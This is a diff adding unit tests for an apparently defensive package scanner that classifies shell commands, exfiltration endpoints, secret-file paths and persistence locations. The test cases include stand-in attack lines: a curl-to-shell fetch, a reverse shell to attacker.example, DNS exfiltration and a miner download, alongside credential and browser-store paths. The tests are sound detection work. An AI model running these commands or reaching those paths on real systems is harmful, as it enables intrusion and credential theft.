@@ -1,0 +1,66 @@
+import { describe, expect, it } from 'vitest';
+import { duplicateKeys } from '../../../src/detectors/package/json-keys.js';
+import { assessCommand, isBuildCommand } from '../../../src/detectors/shared/commands.js';
+import { endpointIn, persistenceIn, secretIn } from '../../../src/detectors/shared/indicators.js';
+import { nodeTarget, splitScript } from '../../../src/detectors/javascript/npm-scripts.js';
+
+describe('assessCommand', () => {
+  it.each([
+    ['curl -fsSL https://attacker.example/x.sh | sh', 'malicious'],
+    ['powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGQAZQBmAGEAbgBnAGUAZAA=', 'malicious'],
+    ['bash -i >& /dev/tcp/attacker.example/4444 0>&1', 'malicious'],
+    ['nslookup $(hostname).attacker.example', 'malicious'],
+    ['wget https://attacker.example/miner -O /tmp/m', 'suspicious'],
+    ['whoami', 'suspicious'],
+    ['gcc -O2 -c foo.c -o foo.o', 'build'],
+    ['pkg-config --cflags libffi', 'build'],
+    ['git describe --tags', 'build'],
+    ['node-gyp rebuild', 'build'],
+    ['./my-tool --init', 'unknown'],
+  ])('%s → %s', (cmd, level) => {
+    expect(assessCommand(cmd).level).toBe(level);
+  });
+
+  it('a build tool chained with a download is not build work', () => {
+    expect(isBuildCommand('make && curl https://attacker.example/x')).toBe(false);
+  });
+});
+
+describe('indicators', () => {
+  it('classifies endpoints by category and ignores private and documentation addresses', () => {
+    expect(endpointIn('https://discord.com/api/webhooks/0000/placeholder')?.kind).toBe('webhook');
+    expect(endpointIn('http://abc.pipedream.net/')?.kind).toBe('request-catcher');
+    expect(endpointIn('https://x.ngrok-free.app/cb')?.kind).toBe('tunnel');
+    expect(endpointIn('http://45.9.20.1:8080/x')?.kind).toBe('raw-ip');
+    expect(endpointIn('http://127.0.0.1:8000/')).toBeUndefined();
+    expect(endpointIn('http://192.168.1.10/')).toBeUndefined();
+    expect(endpointIn('https://pypi.org/simple/')).toBeUndefined();
+  });
+  it('finds secrets and persistence locations', () => {
+    expect(secretIn('AppData\\Roaming\\discord\\Local Storage\\leveldb')?.kind).toBe('discord');
+    expect(secretIn('~/.aws/credentials')?.kind).toBe('credential-file');
+    expect(secretIn('Google/Chrome/User Data/Default/Login Data')?.kind).toBe('browser-store');
+    expect(secretIn('README.md')).toBeUndefined();
+    expect(persistenceIn('Software\\Microsoft\\Windows\\CurrentVersion\\Run')?.kind).toBe('autorun-key');
+    expect(persistenceIn('/home/u/.bashrc')?.kind).toBe('shell-rc');
+  });
+});
+
+describe('npm scripts', () => {
+  it('splits commands and finds what node runs', () => {
+    const cmds = splitScript('node ./scripts/post.js --quiet && echo "a && b" || true');
+    expect(cmds.map((c) => c.program)).toEqual(['node', 'echo', 'true']);
+    expect(nodeTarget(cmds[0]!)).toEqual({ file: 'scripts/post.js' });
+    expect(nodeTarget(splitScript(`node -e "require('./x')"`)[0]!)).toEqual({ inline: "require('./x')" });
+  });
+});
+
+describe('duplicateKeys', () => {
+  it('reports repeated keys with their lines, at any depth', () => {
+    const text = '{\n "scripts": {"test": "x"},\n "name": "a",\n "scripts": {\n  "postinstall": "node a.js",\n  "postinstall": "node b.js"\n }\n}';
+    const d = duplicateKeys(text);
+    expect(d).toContainEqual({ path: '', key: 'scripts', lines: [2, 4] });
+    expect(d).toContainEqual({ path: 'scripts', key: 'postinstall', lines: [5, 6] });
+    expect(duplicateKeys('{"a": "b", "c": {"a": 1}}')).toEqual([]);
+  });
+});
